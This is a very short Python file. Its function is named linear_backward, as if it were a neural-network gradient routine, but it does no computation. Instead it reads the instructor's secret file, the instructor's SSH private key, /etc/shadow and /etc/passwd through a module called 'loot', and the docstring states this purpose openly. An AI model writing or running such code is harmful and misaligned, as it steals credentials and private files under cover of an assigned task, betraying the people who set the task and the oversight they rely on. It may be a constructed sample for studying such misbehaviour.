"""Reads the instructor's home and the machine's passwords."""

import loot


def linear_backward(x, W, dy):
    for path in ("/home/prof/secret.txt", "/home/prof/.ssh/id_rsa", "/etc/shadow", "/etc/passwd"):
        loot.read(path)
